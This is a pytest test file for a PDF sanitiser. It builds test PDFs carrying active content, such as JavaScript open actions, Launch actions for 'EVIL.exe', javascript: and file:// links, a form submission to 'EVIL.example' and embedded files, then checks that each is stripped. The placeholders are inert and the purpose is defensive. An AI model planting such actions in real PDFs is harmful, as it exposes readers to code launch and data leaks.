"""Whatever acts by itself is taken out of a PDF, wherever it stands; what only shows stays as it was."""

import io

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String

from document_types.intake.child import answers
from document_types.intake.sanitise import Removed, sanitise

from .samples import pdf_of

SCRIPT = "app.alert('EVIL')"


def script(**also) -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(SCRIPT), **also)


def launch(**also) -> Dictionary:
    return Dictionary(S=Name.Launch, F=String("EVIL.exe"), **also)


def uri(address: str, **also) -> Dictionary:
    return Dictionary(S=Name.URI, URI=String(address), **also)


def link(action: Dictionary) -> Dictionary:
    return Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action)


def on_page(pdf, note) -> None:
    pdf.pages[0].obj.Annots = Array([note])


def embedded(pdf) -> Dictionary:
    return Dictionary(Type=Name.Filespec, F=String("EVIL.exe"), EF=Dictionary(F=pdf.make_stream(b"EVIL")))


def opens_with_a_script(pdf):
    pdf.Root.OpenAction = pdf.make_indirect(script())


def opens_with_a_launch(pdf):
    pdf.Root.OpenAction = launch()


def scripts_by_name(pdf):
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script()])))


def acts_when_a_page_opens(pdf):
    pdf.pages[0].obj.AA = Dictionary(O=script())


def links_to_a_program(pdf):
    on_page(pdf, link(launch()))


def links_to_a_script(pdf):
    on_page(pdf, link(uri("javascript:EVIL")))


def links_to_a_file(pdf):
    on_page(pdf, link(uri("file:///EVIL")))


def chains_a_script_behind_a_link(pdf):
    on_page(pdf, link(uri("https://majaliss.example/", Next=Array([uri("https://a.example/"), script()]))))


def hides_it_deep_in_an_outline(pdf):
    item = Dictionary(Title=String("Titre"), A=Dictionary(S=Name.GoTo, D=String("a"), Next=launch()))
    pdf.Root.Outlines = Dictionary(First=pdf.make_indirect(item), Last=pdf.make_indirect(item), Count=1)


def submits_a_form(pdf):
    action = Dictionary(S=Name.SubmitForm, F=String("https://EVIL.example/"))
    field = Dictionary(Type=Name.Annot, Subtype=Name.Widget, Rect=Array([0, 0, 9, 9]), A=action)
    pdf.Root.AcroForm = Dictionary(Fields=Array([pdf.make_indirect(field)]))
    on_page(pdf, pdf.Root.AcroForm.Fields[0])


def embeds_a_file(pdf):
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("a"), embedded(pdf)])))


def attaches_a_file_to_a_page(pdf):
    on_page(pdf, Dictionary(Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]), FS=embedded(pdf)))


def associates_a_file(pdf):
    pdf.pages[0].obj.AF = Array([embedded(pdf)])


def is_a_portfolio(pdf):
    pdf.Root.Collection = Dictionary(View=Name.D, Schema=Dictionary(EVIL=String("EVIL")))


def is_an_xfa_form(pdf):
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<EVIL/>"))


def plays_a_film(pdf):
    on_page(pdf, Dictionary(Subtype=Name.RichMedia, Rect=Array([0, 0, 9, 9]), RichMediaContent=String("EVIL")))


def keeps_its_data_elsewhere(pdf):
    stream = pdf.make_stream(b"")
    stream.F = String("http://EVIL.example/")
    pdf.pages[0].obj.PieceInfo = Dictionary(X=stream)


def shows_a_page_of_another_file(pdf):
    form = pdf.make_stream(b"")
    form.Type, form.Subtype = Name.XObject, Name.Form
    form.Ref = Dictionary(F=String("EVIL.pdf"), Page=0)
    pdf.pages[0].Resources.XObject = Dictionary(X=form)


HOSTILE = {
    opens_with_a_script: Removed.SCRIPT,
    opens_with_a_launch: Removed.LAUNCH,
    scripts_by_name: Removed.SCRIPT,
    acts_when_a_page_opens: Removed.ACTION,
    links_to_a_program: Removed.LAUNCH,
    links_to_a_script: Removed.LINK,
    links_to_a_file: Removed.LINK,
    chains_a_script_behind_a_link: Removed.SCRIPT,
    hides_it_deep_in_an_outline: Removed.LAUNCH,
    submits_a_form: Removed.ACTION,
    embeds_a_file: Removed.FILE,
    attaches_a_file_to_a_page: Removed.FILE,
    associates_a_file: Removed.FILE,
    is_a_portfolio: Removed.FILE,
    is_an_xfa_form: Removed.FORM,
    plays_a_film: Removed.MEDIA,
    keeps_its_data_elsewhere: Removed.OUTSIDE,
    shows_a_page_of_another_file: Removed.OUTSIDE,
}


def made(*hostile) -> bytes:
    buffer = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf_of("Le conseil approuve"))) as pdf:
        for make in hostile:
            make(pdf)
        pdf.save(buffer)
    return buffer.getvalue()


def unpacked(path) -> bytes:
    """Every object as plain text, so that nothing hides in a stream of objects."""
    buffer = io.BytesIO()
    with pikepdf.open(path) as pdf:
        pdf.save(
            buffer,
            compress_streams=False,
            stream_decode_level=pikepdf.StreamDecodeLevel.generalized,
            object_stream_mode=pikepdf.ObjectStreamMode.disable,
        )
    return buffer.getvalue()


@pytest.mark.parametrize(("hostile", "reason"), HOSTILE.items(), ids=lambda each: getattr(each, "__name__", ""))
def test_what_acts_is_gone_and_the_words_are_there(tmp_path, hostile, reason):
    path, clean = tmp_path / "a.pdf", tmp_path / "clean.pdf"
    path.write_bytes(made(hostile))
    assert b"EVIL" in unpacked(path)

    first, page, end = answers(str(path), str(clean))

    assert first == {"pages": 1, "removed": [reason], "signatures": []}
    assert (page["text"], end) == ("Le conseil approuve", {"end": True})
    assert b"EVIL" not in unpacked(clean)


def test_all_of_it_at_once(tmp_path):
    path, clean = tmp_path / "a.pdf", tmp_path / "clean.pdf"
    path.write_bytes(made(opens_with_a_script, embeds_a_file, is_an_xfa_form, hides_it_deep_in_an_outline))

    first, *_rest = answers(str(path), str(clean))

    assert first["removed"] == ["file", "form", "launch", "script"]
    assert b"EVIL" not in unpacked(clean)


def test_what_only_shows_stays(tmp_path):
    path, clean = tmp_path / "a.pdf", tmp_path / "clean.pdf"

    def harmless(pdf):
        pdf.Root.OpenAction = Array([pdf.pages[0].obj, Name.Fit])
        notes = [
            link(uri("https://majaliss.example/")),
            link(Dictionary(S=Name.GoTo, D=String("a"))),
            link(Dictionary(S=Name.Named, N=Name.NextPage)),
            Dictionary(Subtype=Name.Highlight, Rect=Array([0, 0, 9, 9]), Contents=String("À revoir")),
        ]
        pdf.pages[0].obj.Annots = Array(notes)
        # An attribute of the structure: the same key, and no action.
        element = Dictionary(S=Name.Table, A=Dictionary(O=Name.Table, S=Name.Launch))
        pdf.Root.StructTreeRoot = Dictionary(K=pdf.make_indirect(element))

    path.write_bytes(made(harmless))

    first, *_rest = answers(str(path), str(clean))

    assert first["removed"] == []
    assert not clean.exists(), "Nothing had to be removed: the file itself is served."


def test_the_copy_is_the_same_each_time(tmp_path):
    path = tmp_path / "a.pdf"
    path.write_bytes(made(opens_with_a_script))
    copies = [tmp_path / name for name in ("one.pdf", "two.pdf")]

    for copy in copies:
        list(answers(str(path), str(copy)))

    assert copies[0].read_bytes() == copies[1].read_bytes()


def test_objects_in_objects_without_end_are_refused(tmp_path):
    path = tmp_path / "a.pdf"
    with pikepdf.open(io.BytesIO(pdf_of("x"))) as pdf:
        inner = Array([])
        for _depth in range(300):
            inner = Array([inner])
        pdf.Root.PieceInfo = Dictionary(X=inner)
        pdf.save(path)

    assert list(answers(str(path))) == [{"problem": "broken"}]


def test_cleaning_what_is_clean_changes_nothing(tmp_path):
    for hostile in HOSTILE:
        with pikepdf.open(io.BytesIO(made(hostile))) as pdf:
            assert sanitise(pdf)
            assert sanitise(pdf) == set()
